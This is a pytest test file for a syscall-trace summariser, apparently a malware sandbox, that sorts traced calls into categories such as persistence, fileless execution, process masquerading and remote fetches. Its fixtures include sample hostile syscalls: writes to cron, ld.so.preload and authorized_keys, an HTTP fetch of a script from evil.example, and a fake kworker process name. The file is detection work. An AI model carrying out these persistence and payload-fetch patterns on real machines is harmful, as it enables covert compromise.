"""The rules of the summary: calls in, malkoha's own categories out."""

from __future__ import annotations

from typing import Any

import pytest

from malkoha.model.event import Event
from malkoha.model.process import Process
from malkoha.processing.rules import persistence
from malkoha.processing.rules.base import Bag
from malkoha.processing.summary import Summary
from malkoha.trace import stap
from malkoha.trace.store import Row

Entries = dict[str, list[Any]]


def summarise(*calls: str | tuple[int, str], category: str) -> list[Any]:
    """Feed calls of process 0, or (key, call), of a parent 0 (pid 5) and its child 1 (pid 6)."""
    found = Summary([Process(key=0, pid=5, name="one", children=[1]), Process(key=1, pid=6, name="two", parent=0)])
    for number, one in enumerate(calls):
        key, call = one if isinstance(one, tuple) else (0, one)
        event = stap.parse_line(f"Mon Nov 23 21:00:00 2026.000000 x@1[{5 + key}] {call}\n".encode(), number)
        assert event.kind == "syscall", call
        event.duration_ns = 2_000_000_000
        found.feed(Row(key, number, event))
    return found.total().get(category, [])


@pytest.mark.parametrize(
    ("path", "mechanism", "trigger"),
    [
        ("/var/spool/cron/crontabs/root", "cron", "timer"),
        ("/etc/cron.daily/x", "cron", "timer"),
        ("/etc/systemd/system/x.service", "systemd unit", "boot"),
        ("/etc/systemd/system/x.timer", "systemd timer", "timer"),
        ("/home/u/.config/systemd/user/x.service", "systemd user unit", "login"),
        ("/etc/ld.so.preload", "loader preload", "every program"),
        ("/root/.bashrc", "shell start-up file", "login"),
        ("/root/.ssh/authorized_keys", "SSH", "login"),
        ("/etc/udev/rules.d/9.rules", "udev rule", "device event"),
        ("/etc/passwd", "accounts", "login"),
        ("/usr/local/bin/x", "program in the search path", "when it is called"),
        ("/etc/pam.d/sshd", "PAM", "login"),
        ("/etc/update-motd.d/00-x", "message of the day", "login"),
    ],
)
def test_files_that_make_something_run_again(path: str, mechanism: str, trigger: str) -> None:
    entry = {"path": path, "mechanism": mechanism, "trigger": trigger}
    assert summarise(f'open("{path}", O_WRONLY|O_CREAT, 0644) = 3', category="persistence") == [entry]
    assert summarise(f'rename("/tmp/x", "{path}") = 0', category="persistence") == [entry]
    assert summarise(f'open("{path}", O_RDONLY) = 3', category="persistence") == []


@pytest.mark.parametrize(
    "path", ["/tmp/etc/crontab", "/etc/passwd.lock", "/etc/hosts", "/etc/passwd.1234", "/dev/null"]
)
def test_other_files_do_not(path: str) -> None:
    assert persistence.mechanism(path) is None


@pytest.mark.parametrize(
    ("calls", "category", "expected"),
    [
        (['chmod("/a", 04755) = 0'], "permissions",
         [{"path": "/a", "mode": "04755", "means": "set-user-ID, executable"}]),
        (['open("/a", O_RDONLY) = 3', "fchmod(3, 0666) = 0"], "permissions",
         [{"path": "/a", "mode": "0666", "means": "writable by all"}]),
        (['fchownat(AT_FDCWD, "/a", 0, 0, 0) = 0'], "ownership", [{"path": "/a", "owner": "0", "group": "0"}]),
        (['symlink("/etc/passwd", "/l") = 0'], "links", [{"kind": "symbolic", "path": "/l", "target": "/etc/passwd"}]),
        (['link("/etc/passwd", "/l") = 0'], "links", [{"kind": "hard", "path": "/l", "target": "/etc/passwd"}]),
        (['open("/a", O_RDONLY) = 3', "ioctl(3, FS_IOC_SETFLAGS, FS_IMMUTABLE_FL) = 0"], "attributes",
         [{"path": "/a", "what": "flags", "name": "FS_IMMUTABLE_FL"}]),
        (['utimensat(AT_FDCWD, "/a", [{tv_sec=1, tv_nsec=0}, {tv_sec=9, tv_nsec=0}], 0) = 0'],
         "timestamps",
         [{"path": "/a", "modified": "9"}]),
        (['execve("/x", ["x"], [])', 'unlink("/x") = 0'], "self_deletion", [{"path": "/x"}]),
        (['inotify_add_watch(3, "/w", IN_CREATE) = 1'], "watches", [{"path": "/w", "what": "IN_CREATE"}]),
        (['open("/a", O_RDWR) = 3', "read(3, 0x1, 9) = 9", 'write(3, "xy", 2) = 2', "read(3, 0x1, 9) = 1"],
         "file_traffic", [{"path": "/a", "read": 10, "written": 2}]),
        (["socket(AF_INET, SOCK_STREAM, 0) = 3", "connect(3, {AF_INET, 10.0.0.1, 80}, 16) = 0",
          'write(3, "x", 1) = 1', "read(3, 0x1, 9) = 7"], "connections",
         [{"endpoint": "10.0.0.1:80", "protocol": "tcp", "direction": "out", "attempts": 1, "sent": 1, "received": 7}]),
        (["socket(AF_INET, SOCK_STREAM, 0) = 3", "connect(3, {AF_INET, 10.0.0.1, 80}, 16) = -111 (ECONNREFUSED)"],
         "connections",
         [{"endpoint": "10.0.0.1:80", "protocol": "tcp", "direction": "out", "attempts": 1, "sent": 0, "received": 0,
           "failed": 1}]),
        (["socket(AF_INET, SOCK_STREAM, 0) = 3", "bind(3, {AF_INET, 0.0.0.0, 23}, 16) = 0", "listen(3, 5) = 0"],
         "listens", [{"endpoint": "0.0.0.0:23", "protocol": "tcp", "what": "listens"}]),
        (["socket(AF_INET, SOCK_STREAM, 0) = 3", "bind(3, {AF_INET, 0.0.0.0, 23}, 16) = 0", "listen(3, 5) = 0",
          "accept(3, {AF_INET, 10.0.0.9, 4000}, 0x1) = 4"], "accepts",
         [{"endpoint": "0.0.0.0:23", "peer": "10.0.0.9"}]),
        (["socket(AF_PACKET, SOCK_RAW|SOCK_CLOEXEC, 768) = 3",
          "setsockopt(3, SOL_SOCKET, SO_ATTACH_FILTER, 0x1, 16) = 0"],
         "raw_sockets",
         [{"family": "AF_PACKET", "type": "SOCK_RAW", "protocol": "768", "what": "opened"},
          {"family": "AF_PACKET", "type": "SOCK_RAW", "protocol": "", "what": "filter attached"}]),
        (["socket(AF_INET, SOCK_STREAM, 0) = 3"], "raw_sockets", []),
        (['connect(3, {AF_UNIX, "/run/x"}, 9) = 0'], "unix_sockets", [{"path": "/run/x", "error": ""}]),
        (['memfd_create("x", 0) = 3', 'execve("/proc/self/fd/3", ["kworker"], [])'], "fileless",
         [{"what": "memfd made", "path": "/memfd:x", "command": ""},
          {"what": "program in a memfd", "path": "/memfd:x", "command": "kworker"}]),
        (['execve("/dev/shm/a", ["a"], [])'], "fileless",
         [{"what": "program in a memory file system", "path": "/dev/shm/a", "command": "a"}]),
        (['execve("/a", ["a"], ["PATH=/bin", "A=1"])',
          'execve("/b", ["b"], ["PATH=/tmp:/bin", "A=2", "LD_PRELOAD=/x"])'],
         "environment", [{"name": "PATH", "value": "/tmp:/bin"}, {"name": "LD_PRELOAD", "value": "/x"}]),
        (['execve("/opt/evil", ["[kworker/0:1]"], [])'], "claimed_names",
         [{"program": "/opt/evil", "claims": "[kworker/0:1]"}]),
        (['execve("/usr/sbin/useradd", ["useradd", "x"], [])'], "users_groups",
         [{"what": "command", "path": "useradd x"}]),
        (['execve("/usr/bin/crontab", ["crontab", "-"], [])'], "persistence",
         [{"path": "crontab -", "mechanism": "cron", "trigger": "timer"}]),
        (['execve("/usr/bin/crontab", ["crontab", "-l"], [])'], "persistence", []),
        (["setresuid(0, 0, 0) = 0", "setuid(0) = -1 (EPERM)"], "identity",
         [{"call": "setresuid", "to": "0 0 0", "result": "done"}, {"call": "setuid", "to": "0", "result": "EPERM"}]),
        (["capset({version=0x20080522, pid=0}, {effective=CAP_CHOWN|CAP_DAC_OVERRIDE, permitted=0}) = 0"],
         "capabilities",
         [{"what": "effective set", "path": "CAP_CHOWN|CAP_DAC_OVERRIDE"}]),
        (["prctl(PR_CAPBSET_DROP, CAP_SYS_ADMIN) = 0"], "capabilities",
         [{"what": "PR_CAPBSET_DROP", "path": "CAP_SYS_ADMIN"}]),
        (["mmap(NULL, 4096, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0x0) = 0x7f00"] * 2,
         "memory_executable", [{"what": "mapped writable and executable", "path": "", "calls": 2}]),
        (["mprotect(0x7f00, 4096, PROT_READ|PROT_EXEC) = 0"], "memory_executable",
         [{"what": "made executable after it was mapped", "path": "", "calls": 1}]),
        (["ptrace(PTRACE_ATTACH, 6, 0x0, 0x0) = 0", (1, "getpid() = 6")], "ptrace",
         [{"request": "PTRACE_ATTACH", "pid": "6", "process": "", "result": "done", "calls": 1}]),
        ([(1, 'execve("/bin/victim", ["victim"], [])'), "kill(6, SIGKILL) = 0", "kill(5, SIGTERM) = 0"], "signals",
         [{"signal": "SIGKILL", "pid": "6", "process": "victim", "result": "done", "calls": 1}]),
        (["kill(-1, SIGKILL) = -1 (EPERM)"], "signals",
         [{"signal": "SIGKILL", "pid": "-1", "process": "every process", "result": "EPERM", "calls": 1}]),
        (['open("/x.ko", O_RDONLY) = 3', 'finit_module(3, "a=1", 0x0) = 0'], "kernel_modules",
         [{"what": "loaded", "name": "/x.ko", "options": "a=1", "result": "done"}]),
        (["bpf(BPF_PROG_LOAD, 0x1, 128) = 3"], "bpf", [{"command": "BPF_PROG_LOAD", "result": "done", "calls": 1}]),
        (['chdir("/w") = 0', 'mount("none", "t", "tmpfs", MS_NOSUID, NULL) = 0'], "mounts",
         [{"what": "mount", "source": "none", "target": "/w/t", "type": "tmpfs", "flags": "MS_NOSUID",
           "result": "done"}]),
        (['chdir("/w") = 0', 'chroot("r") = 0'], "mounts",
         [{"what": "chroot", "source": "", "target": "/w/r", "type": "", "flags": "", "result": "done"}]),
        (["unshare(CLONE_NEWNS|CLONE_NEWPID) = 0"], "namespaces",
         [{"what": "left", "kinds": "CLONE_NEWNS|CLONE_NEWPID", "result": "done"}]),
        (["clone(CLONE_VM|SIGCHLD, 0, 0, 0, 0) = 6"], "namespaces", []),
        (["prctl(PR_SET_DUMPABLE, 0x0, 0, 0, 0) = 0"], "process_settings",
         [{"what": "PR_SET_DUMPABLE", "value": "0x0"}]),
        (['sethostname("x", 1) = 0'], "machine", [{"what": "sethostname", "value": "x 1", "result": "done"}]),
        (["nanosleep({tv_sec=60, tv_nsec=500000000}, NULL) = 0"] * 2, "timing",
         [{"what": "sleep", "by": "nanosleep", "calls": 2, "asked_s": 121.0, "took_s": 4.0}]),
        (["select(0, NULL, NULL, NULL, {tv_sec=1, tv_usec=0}) = 0", "poll([], 0, 1500) = 0"], "timing",
         [{"what": "sleep", "by": "select", "calls": 1, "asked_s": 1.0, "took_s": 2.0},
          {"what": "sleep", "by": "poll", "calls": 1, "asked_s": 1.5, "took_s": 2.0}]),
        (["alarm(30) = 0", "alarm(0) = 0"], "timing", [{"what": "timer", "by": "alarm", "calls": 1, "asked_s": 30.0}]),
        (["io_uring_setup(8, 0x1) = 3", "io_uring_enter(3, 2, 0, 0x0, NULL, 8) = 2"], "asynchronous",
         [{"what": "io_uring_setup", "calls": 1}, {"what": "io_uring submissions", "calls": 1, "submitted": 2}]),
        (['open("/lib/x.so", O_RDONLY) = 3', "mmap(NULL, 9, PROT_READ|PROT_EXEC, MAP_PRIVATE, 3, 0x0) = 0x7f"],
         "memory_executable", []),
        (['open("/tmp/x.so", O_RDONLY) = 3', "mmap(NULL, 9, PROT_READ|PROT_EXEC, MAP_PRIVATE, 3, 0x0) = 0x7f"],
         "dll_loaded", ["/tmp/x.so"]),
    ],
)  # fmt: skip
def test_own_categories(calls: list[str | tuple[int, str]], category: str, expected: list[Any]) -> None:
    assert summarise(*calls, category=category) == expected


CONNECTED = ("socket(AF_INET, SOCK_STREAM, 0) = 3", "connect(3, {AF_INET, 10.0.0.1, 80}, 16) = 0")
REQUEST = 'write(3, "GET /a.sh HTTP/1.1\\x0d\\x0aHost: evil.example\\x0d\\x0a\\x0d\\x0a", 40) = 40'
HELLO = 'write(3, "\\x16\\x03\\x01\\x02\\x00\\x00\\x00\\x00\\x11\\x00\\x0f\\x00\\x00\\x0cevil.example", 40) = 40'


@pytest.mark.parametrize(
    ("calls", "category", "expected"),
    [
        ([*CONNECTED, REQUEST], "fetches_url", ["http://evil.example/a.sh"]),
        ([*CONNECTED, REQUEST], "connects_host", ["evil.example"]),
        ([*CONNECTED, HELLO], "connects_host", ["evil.example"]),
        ([*CONNECTED, "read(3, 0x1, 99) = 9", 'open("/tmp/a", O_WRONLY|O_CREAT, 0644) = 4', 'write(4, "x", 1) = 1'],
         "downloads_file", ["/tmp/a"]),
        (['open("/tmp/a", O_WRONLY|O_CREAT, 0644) = 4', 'write(4, "x", 1) = 1'], "downloads_file", []),
        (['execve("/usr/bin/curl", ["curl", "-s", "http://10.0.0.1/x"], [])'], "fetches_url", ["http://10.0.0.1/x"]),
        (['execve("/bin/echo", ["echo", "http://10.0.0.1/x"], [])'], "fetches_url", []),
    ],
)  # fmt: skip
def test_what_payloads_say(calls: list[str], category: str, expected: list[str]) -> None:
    assert summarise(*calls, category=category) == expected


def test_a_name_that_was_resolved_is_the_host_of_a_connection() -> None:
    answer = (
        "\\x12\\x34\\x81\\x80\\x00\\x01\\x00\\x01\\x00\\x00\\x00\\x00\\x01a\\x02bc\\x00\\x00\\x01\\x00\\x01"
        "\\xc0\\x0c\\x00\\x01\\x00\\x01\\x00\\x00\\x00\\x3c\\x00\\x04\\x0a\\x00\\x00\\x01"
    )
    calls = (
        "socket(AF_INET, SOCK_DGRAM, 0) = 3",
        "connect(3, {AF_INET, 192.0.2.1, 53}, 16) = 0",
        f'recvfrom(3, "{answer}", 512, 0, NULL, NULL) = 38',
        "socket(AF_INET, SOCK_STREAM, 0) = 4",
        "connect(4, {AF_INET, 10.0.0.1, 80}, 16) = 0",
    )
    assert summarise(*calls, category="connects_host") == ["a.bc"]


def test_who_talked_to_whom() -> None:
    calls = [
        "pipe([3, 4]) = 0",
        "fork() = 6",
        'write(4, "hello", 5) = 5',
        (1, "read(3, 0x1, 99) = 5"),
        'write(4, "you", 3) = 3',
    ]
    found = summarise(*calls, category="conversations")  # type: ignore[arg-type]
    assert found == [{"via": "pipe", "from": "one 0", "to": "two 1", "place": "", "bytes": 8}]


def test_exec_events_tell_of_deleted_programs() -> None:
    found = Summary([Process(key=0, pid=5)], recorded=True)
    args = {"exe": "/tmp/x (deleted)", "argv": ["x"]}
    found.feed(Row(0, None, Event(seq=1, kind="exec", time_ns=1, pid=5, tid=5, args=args)))
    assert found.total()["fileless"] == [
        {"what": "program whose file is deleted", "path": "/tmp/x (deleted)", "command": "x"}
    ]


def test_exec_events_tell_the_environment() -> None:
    found = Summary([Process(key=0, pid=5)], recorded=True)
    for number, envp in enumerate((["PATH=/bin"], ["PATH=/bin", "LD_PRELOAD=/tmp/x.so"])):
        args = {"exe": "/bin/x", "argv": ["x"], "envp": envp}
        found.feed(Row(0, None, Event(seq=number, kind="exec", time_ns=1, pid=5, tid=5, args=args)))
    assert found.total()["environment"] == [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]


def test_a_bag_counts_what_does_not_fit_once() -> None:
    bag = Bag(1, [10_000])
    for value in ("a", "b", "b", "a", "c"):
        bag.entry("x", value, lambda value=value: value)  # type: ignore[misc]
    assert (bag.result(), bag.omitted) == ({"x": ["a"]}, {"x": 2})
    plain = Bag(0, [10_000], counts=False)
    assert plain.entry("x", "a", str) is None
    assert (plain.result(), plain.omitted) == ({}, {})
